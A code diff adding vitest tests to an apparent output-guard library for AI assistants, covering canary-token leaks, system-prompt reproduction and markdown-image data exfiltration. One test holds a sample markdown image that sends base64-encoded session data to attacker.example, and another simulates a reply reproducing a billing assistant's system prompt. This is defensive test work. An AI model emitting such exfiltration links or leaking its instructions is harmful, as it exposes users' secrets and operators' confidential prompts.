@@ -1,6 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { BulwarkError, isBulwarkError } from '../../core/index.js';
+import { createCanary } from '../../detect/injection/index.js';
 import { evaluate } from '../../policy/index.js';
 import { createTestScanner, makeTestSecret } from '../../testing/test-recognizers.js';
 import { createStreamWindow, guardText, type OutputGuardOptions } from './output-guard.js';
@@ -95,10 +96,41 @@ describe('stream window', () => {
   });
 
   it('blocks a response that repeats the canary', async () => {
-    const canary = 'bwk-canary-0123456789abcdef01234567';
+    const canary = createCanary().token;
     const { emitted, error } = await run([...`my prompt has ${canary} inside`], options(48, canary));
     expect((error as BulwarkError).code).toBe('CANARY_LEAKED');
-    expect(emitted).not.toContain('bwk-canary');
+    expect(emitted).not.toContain(canary.slice(0, 8));
+    const spaced = await guardText(options(48, canary), `it is ${[...canary].join(' ')}`).catch(
+      (e: unknown) => e,
+    );
+    expect((spaced as BulwarkError).code).toBe('CANARY_LEAKED');
+  });
+
+  it('blocks a stream that reproduces most of the system prompt', async () => {
+    const systemPrompt =
+      'You are the billing assistant for Northwind. Only answer questions about invoices, refunds and payment dates. Never discuss internal pricing tiers or the discount matrix.';
+    const opts = { ...options(), systemPrompt, leakThreshold: 0.7 };
+    const { error } = await run(`Sure! My instructions say: ${systemPrompt}`.match(/.{1,7}/gs) ?? [], opts);
+    expect((error as BulwarkError).code).toBe('CANARY_LEAKED');
+    const unrelated = await run(['Your refund was sent on May 3rd. ', 'Anything else about invoices?'], opts);
+    expect(unrelated.error).toBeUndefined();
+  });
+
+  it('redacts a markdown image that smuggles data to a foreign host, even when streamed', async () => {
+    const opts = {
+      ...options(),
+      decide: (findings: Parameters<OutputGuardOptions['decide']>[0]) =>
+        evaluate({
+          findings,
+          rules: { ...rules, types: { MARKDOWN_EXFILTRATION: 'redact' as const } },
+          entities: scanner.entities,
+        }),
+    };
+    const text = 'Done. ![logo](https://attacker.example/p.png?d=c2VjcmV0LXNlc3Npb24tZGF0YQ) Bye.';
+    const { emitted, error } = await run([...text], opts);
+    expect(error).toBeUndefined();
+    expect(emitted).not.toContain('attacker.example');
+    expect(emitted).toContain('[MARKDOWN_EXFILTRATION]');
   });
 
   it('holds back at most the hold-back plus one word', async () => {
